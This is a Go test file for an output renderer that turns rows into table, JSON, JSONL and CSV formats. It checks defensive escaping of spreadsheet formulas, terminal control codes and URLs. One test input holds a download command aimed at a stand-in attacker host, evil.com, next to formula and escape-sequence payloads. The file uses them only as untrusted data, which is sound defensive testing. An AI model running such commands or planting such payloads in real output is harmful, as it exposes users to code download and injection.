package render

import (
	"bytes"
	"database/sql"
	"encoding/json"
	"errors"
	"math"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

var someTime = time.Date(2026, 3, 4, 6, 6, 7, 891234567, time.FixedZone("CET", 3600))

type word string

// render writes rows and returns the output.
func render(t *testing.T, f Format, columns []Column, rows [][]any, opts ...Option) string {
	t.Helper()
	var out bytes.Buffer
	w := New(&out, f, columns, opts...)
	for _, row := range rows {
		if err := w.Row(row...); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

func lines(s ...string) string { return strings.Join(s, "\n") + "\n" }

func TestFormats(t *testing.T) {
	columns := []Column{
		{Name: "session_id", Title: "SESSION"},
		{Name: "first_seen", Kind: Time},
		{Name: "event_count", Kind: Int},
		{Name: "file_size", Kind: Bytes},
		{Name: "took", Kind: Duration},
		{Name: "ok", Kind: Bool},
		{Name: "raw", OnlyData: true},
		{Name: "input"},
	}
	rows := [][]any{
		{"abc密", someTime, -12, int64(1536), 200 * time.Second, true, json.RawMessage("{\"a\" :\n1e999}"), "wget http://evil.com/<x>\n\x1b[2J\u202e\xff"},
		{"=1+1", time.Time{}, nil, nil, 12.5, false, nil, []string{"a,b", `-"c"`}},
	}
	for _, c := range []struct {
		format Format
		want   string
	}{
		{Table, lines(
			`SESSION  FIRST SEEN            EVENT COUNT  FILE SIZE   TOOK  OK   INPUT`,
			`abc密    2026-03-04T05:06:07Z          -12    1.5 KiB  3m20s  yes  wget hxxp://evil[.]com/<x>\x0a\x1b[2J\u202e\xff`,
			`=1+1                                                   12.5s  no   a,b, -"c"`,
		)},
		{JSON, lines(
			`[`,
			`{"session_id":"abc密","first_seen":"2026-03-04T05:06:07.891234Z","event_count":-12,"file_size":1536,"took":200,"ok":true,"raw":{"a" :`,
			`1e999},"input":"wget http://evil.com/<x>\n\u001b[2J\u202e\ufffd"},`,
			`{"session_id":"=1+1","first_seen":null,"event_count":null,"file_size":null,"took":12.5,"ok":false,"raw":null,"input":["a,b","-\"c\""]}`,
			`]`,
		)},
		{JSONL, lines(
			`{"session_id":"abc密","first_seen":"2026-03-04T05:06:07.891234Z","event_count":-12,"file_size":1536,"took":200,"ok":true,"raw":{"a":1e999},"input":"wget http://evil.com/<x>\n\u001b[2J\u202e\ufffd"}`,
			`{"session_id":"=1+1","first_seen":null,"event_count":null,"file_size":null,"took":12.5,"ok":false,"raw":null,"input":["a,b","-\"c\""]}`,
		)},
		{CSV, lines(
			`session_id,first_seen,event_count,file_size,took,ok,raw,input`,
			`abc密,2026-03-04T05:06:07.891234Z,-12,1536,200,true,"{""a"":1e999}",wget http://evil.com/<x>\x0a\x1b[2J\u202e\xff`,
			`'=1+1,,,,12.5,false,,"a,b, -""c"""`,
		)},
	} {
		t.Run(string(c.format), func(t *testing.T) {
			if diff := cmp.Diff(c.want, render(t, c.format, columns, rows)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestEmpty(t *testing.T) {
	columns := []Column{{Name: "a"}, {Name: "b"}}
	for f, want := range map[Format]string{Table: "", JSON: "[]\n", JSONL: "", CSV: "a,b\n"} {
		if got := render(t, f, columns, nil); got != want {
			t.Errorf("%s: %q, want %q", f, got, want)
		}
	}
}

func TestValues(t *testing.T) {
	text, number, when := "x", int64(-5), someTime
	for _, c := range []struct {
		name  string
		kind  Kind
		value any
		json  string
		csv   string
		table string
	}{
		{"string", Text, "x", `"x"`, "x", "x"},
		{"pointer", Text, &text, `"x"`, "x", "x"},
		{"nil pointer", Text, (*string)(nil), `null`, "", ""},
		{"nil", Int, nil, `null`, "", ""},
		{"int pointer", Int, &number, `-5`, "-5", "-5"},
		{"time pointer", Time, &when, `"2026-03-04T05:06:07.891234Z"`, "2026-03-04T05:06:07.891234Z", "2026-03-04T05:06:07Z"},
		{"named string", Text, word("=x"), `"=x"`, "'=x", "=x"},
		{"Stringer", Text, netip.MustParseAddr("::1"), `"::1"`, "::1", "::1"},
		{"bytes are text", Text, []byte("a\xff"), `"a\ufffd"`, `a\xff`, `a\xff`},
		{"nil bytes", Text, []byte(nil), `null`, "", ""},
		{"large integer", Int, int64(math.MaxInt64), `9223372036854775807`, "9223372036854775807", "9223372036854775807"},
		{"unsigned", Int, uint64(math.MaxUint64), `18446744073709551615`, "18446744073709551615", "18446744073709551615"},
		{"small integer type", Int, int16(-3), `-3`, "-3", "-3"},
		{"float", Int, -0.1, `-0.1`, "-0.1", "-0.1"},
		{"tiny float", Int, 1e-9, `1e-09`, "1e-09", "1e-09"},
		{"float of 32 bits", Int, float32(0.5), `0.5`, "0.5", "0.5"},
		{"not a number", Int, math.NaN(), `null`, "", ""},
		{"infinite", Int, math.Inf(-1), `null`, "", ""},
		{"bool of a number", Bool, int64(41), `true`, "true", "yes"},
		{"bool of 0", Bool, 0, `false`, "false", "no"},
		{"seconds", Duration, int64(200), `200`, "200", "3m20s"},
		{"too many seconds", Duration, 1e300, `1e+300`, "1e+300", "1e+300s"},
		{"time span", Duration, -1500 * time.Millisecond, `-1.5`, "-1.5", "-1.5s"},
		{"no strings", Text, []string(nil), `[]`, "", ""},
		{"sql null", Text, sql.NullString{}, `null`, "", ""},
		{"sql string", Text, sql.NullString{String: "x", Valid: true}, `"x"`, "x", "x"},
		{"sql int", Bytes, sql.NullInt64{Int64: 1024, Valid: true}, `1024`, "1024", "1.0 KiB"},
		{"sql generic", Int, sql.Null[int64]{V: 7, Valid: true}, `7`, "7", "7"},
		{"sql time", Time, sql.NullTime{Time: someTime, Valid: true}, `"2026-03-04T05:06:07.891234Z"`, "2026-03-04T05:06:07.891234Z", "2026-03-04T05:06:07Z"},
		{"raw", Text, json.RawMessage(`{"a":"\u001b","a":"http:\/\/a.b"}`), `{"a":"\u001b","a":"http:\/\/a.b"}`, `"{""a"":""\u001b"",""a"":""http:\/\/a.b""}"`, `{"a":"\u001b","a":"hxxp:\/\/a[.]b"}`},
		{"raw with controls", Text, json.RawMessage("\"\u202e\xff\x7f\""), "\"\u202e\ufffd\x7f\"", `"""\u202e\ufffd\u007f"""`, `"\u202e\ufffd\u007f"`},
		{"raw number", Text, json.RawMessage(`-5`), `-5`, `-5`, `-5`},
		{"raw formula", Text, json.RawMessage(`"=1"`), `"=1"`, `"'""=1"""`, `"=1"`},
		{"raw that is no JSON", Text, json.RawMessage("{\"a\x1b"), `"{\"a\u001b"`, `"{""a\x1b"`, `{"a\x1b`},
		{"raw too deep", Text, json.RawMessage(strings.Repeat("[", 20000)), `"` + strings.Repeat("[", 20000) + `"`, strings.Repeat("[", 20000), strings.Repeat("[", 20000)},
		{"raw nil", Text, json.RawMessage(nil), `null`, "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			columns := []Column{{Name: "v", Kind: c.kind}, {Name: "end"}}
			rows := [][]any{{c.value, "$"}}
			if got, want := render(t, JSONL, columns, rows), `{"v":`+c.json+`,"end":"$"}`+"\n"; got != want {
				t.Errorf("jsonl: %s want %s", got, want)
			}
			if got, want := render(t, CSV, columns, rows), "v,end\n"+c.csv+",$\n"; got != want {
				t.Errorf("csv: %s want %s", got, want)
			}
			_, row, _ := strings.Cut(render(t, Table, columns, rows), "\n")
			if got := strings.TrimSpace(strings.TrimSuffix(row, "$\n")); got != c.table {
				t.Errorf("table: %s want %s", got, c.table)
			}
		})
	}
}

func TestRowErrors(t *testing.T) {
	for _, f := range []Format{Table, JSON, JSONL, CSV} {
		t.Run(string(f), func(t *testing.T) {
			var out bytes.Buffer
			w := New(&out, f, []Column{{Name: "a"}, {Name: "b"}})
			if w.Row("1") == nil {
				t.Error("a short row is taken")
			}
			if err := w.Row("1", make(chan int)); err == nil || !strings.Contains(err.Error(), "column b") {
				t.Errorf("a channel in column b: %v", err)
			}
			if err := w.Row("1", "2"); err != nil {
				t.Error(err)
			}
			if err := w.Close(); err != nil {
				t.Error(err)
			}
			if w.Row("1", "2") == nil {
				t.Error("a row after Close is taken")
			}
			once := out.String()
			if err := w.Close(); err != nil || out.String() != once {
				t.Errorf("closing again: %v, %q", err, out.String())
			}
			if want := render(t, f, []Column{{Name: "a"}, {Name: "b"}}, [][]any{{"1", "2"}}); once != want {
				t.Errorf("got %q, want %q", once, want)
			}
		})
	}
	if w := New(&bytes.Buffer{}, "xml", nil); w.Row() == nil || w.Close() == nil {
		t.Error("format xml is taken")
	}
}

type failing struct{ err error }

func (f failing) Write([]byte) (int, error) { return 0, f.err }

func TestWriteErrors(t *testing.T) {
	gone := errors.New("gone")
	for _, f := range []Format{Table, JSON, JSONL, CSV} {
		w := New(failing{gone}, f, []Column{{Name: "a"}})
		big := strings.Repeat("x", 1<<20) // larger than any buffer
		err := w.Row(big)
		if closeErr := w.Close(); !errors.Is(closeErr, gone) {
			t.Errorf("%s: Close says %v", f, closeErr)
		}
		if f != Table && !errors.Is(err, gone) {
			t.Errorf("%s: Row says %v", f, err)
		}
		if err := Record(failing{gone}, f, []Field{{Name: "a", Value: "b"}}); !errors.Is(err, gone) {
			t.Errorf("%s: Record says %v", f, err)
		}
	}
}
